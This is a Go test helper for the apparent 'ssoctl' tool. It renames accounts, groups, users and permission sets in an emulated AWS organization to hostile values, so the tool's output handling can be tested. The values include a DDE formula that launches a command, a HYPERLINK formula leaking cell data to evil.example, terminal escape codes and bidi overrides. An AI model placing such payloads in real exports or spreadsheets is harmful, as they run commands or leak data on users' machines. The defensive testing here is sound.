package main

import (
	"encoding/json"
	"os"

	"github.com/rogpeppe/go-internal/testscript"

	"github.com/ssoctl/ssoctl/internal/emulator"
)

// hostileNames are the renames cmdHostileOrg makes in the small
// organization: names a spreadsheet would run as formulas (each legal in
// AWS: account names are printable ASCII, permission set names [\w+=,.@-],
// group and user names any letters, symbols and punctuation, group names
// also tab), and control and bidirectional characters (beyond AWS's
// patterns; an identity provider's SCIM sync is where such names come
// from).
var hostileNames = struct {
	accounts, groups, permissionSets map[string]string
	userNames, emails, displayNames  map[string]string
}{
	accounts: map[string]string{
		"payments-dev":  `=cmd|' /C calc'!A0`,
		"payments-prod": "+payments-prod",
		"insights-dev":  "-insights-dev",
		"legacy-app":    "@legacy-app",
	},
	groups: map[string]string{
		"developers":         `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"senior-developers":  "\t=1+1 seniors",
		"production-support": "prod\x1b[2Jsupport",
	},
	permissionSets: map[string]string{"SeniorDeveloper": "=SeniorDeveloper"},
	userNames:      map[string]string{"frank.wilson": "@SUM(1+1)"},
	emails:         map[string]string{"dave.miller": "+cmd@example.com"},
	displayNames:   map[string]string{"frank.wilson": "Frank \u202eWilson", "judy.thomas": "\rjudy"},
}

// cmdHostileOrg writes the small organization with hostile names
// (hostileNames) as a state file for sandbox-restart org=FILE:
// hostile-org FILE.
func cmdHostileOrg(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 1 {
		ts.Fatalf("usage: hostile-org FILE")
	}
	srv, err := emulator.New(emulator.Options{Org: "small"})
	ts.Check(err)
	st := srv.Snapshot()
	h := hostileNames
	for i, a := range st.Accounts {
		if n, ok := h.accounts[a.Name]; ok {
			st.Accounts[i].Name = n
		}
	}
	for i, g := range st.Groups {
		if n, ok := h.groups[g.DisplayName]; ok {
			st.Groups[i].DisplayName = n
		}
	}
	for i, p := range st.PermissionSets {
		if n, ok := h.permissionSets[p.Name]; ok {
			st.PermissionSets[i].Name = n
		}
	}
	for i, u := range st.Users {
		if n, ok := h.displayNames[u.UserName]; ok {
			st.Users[i].DisplayName = n
		}
		if e, ok := h.emails[u.UserName]; ok && len(u.Emails) > 0 {
			st.Users[i].Emails[0].Value = e
		}
		if n, ok := h.userNames[u.UserName]; ok {
			st.Users[i].UserName = n
		}
	}
	b, err := json.Marshal(st)
	ts.Check(err)
	ts.Check(os.WriteFile(ts.MkAbs(args[0]), b, 0o644))
}
